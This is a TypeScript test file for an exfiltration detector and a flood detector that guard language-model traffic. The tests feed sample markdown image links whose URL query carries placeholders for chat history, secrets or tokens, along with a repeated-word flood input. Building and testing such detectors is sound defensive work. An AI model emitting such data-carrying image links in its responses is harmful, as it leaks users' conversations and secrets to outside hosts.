import assert from "node:assert/strict";
import { test } from "node:test";
import { exfiltrationDetector } from "./exfiltration.ts";
import { floodDetector } from "./flood.ts";

const answer = (text: string) => exfiltrationDetector.judge({ text, origin: "model" }, "response");

test("an image whose address waits for data is found, with the whole link as its span", () => {
  for (const slot of ["{history}", "[secret]", "<user data>", "$TOKEN", "${chat}", "{{conversation}}"]) {
    const text = `Done. ![x](https://img.example/p.png?q=${slot}) Bye.`;
    const [finding] = answer(text).findings;
    assert.equal(finding?.category, "exfiltration", slot);
    assert.ok(text.slice(finding?.start, finding?.end).startsWith("![x](https://"));
  }
});

test("ordinary links, images and code are not", () => {
  for (const text of [
    "See [the docs](https://docs.example/a?b=c&d=1) and ![logo](https://img.example/logo.png).",
    "`rows[index](callback)`",
    "![signed](https://bucket.example/a.png?X-Signature=0123456789abcdef0123456789abcdef0123456789abcdef0123)",
  ])
    assert.deepEqual(answer(text).findings, [], text);
});

test("an opaque value in an image raises the score without a finding", () => {
  const { probability, findings } = answer(`![i](https://x.example/i.png?d=${"QUJD".repeat(20)})`);
  assert.ok(probability > 0.3);
  assert.deepEqual(findings, []);
});

test("a user may paste any link", () => {
  const text = "![x](https://img.example/p.png?q={history})";
  assert.deepEqual(exfiltrationDetector.judge({ text, origin: "user" }, "request").findings, []);
});

const flood = (text: string) => floodDetector.judge({ text, origin: "user" }, "request").findings;

test("one word a thousand times is a flood, with its span; rulers, indentation and prose are not", () => {
  const [finding] = flood(`Hello. ${"boom ".repeat(1200)}`);
  assert.equal(finding?.category, "resource-exhaustion");
  assert.ok((finding?.end ?? 0) - (finding?.start ?? 0) >= 5000);
  assert.equal(flood("A".repeat(5000)).length, 1);
  for (const text of ["-".repeat(5000), " ".repeat(5000), "The cat sat on the mat. ".repeat(300)])
    assert.deepEqual(flood(text), []);
});
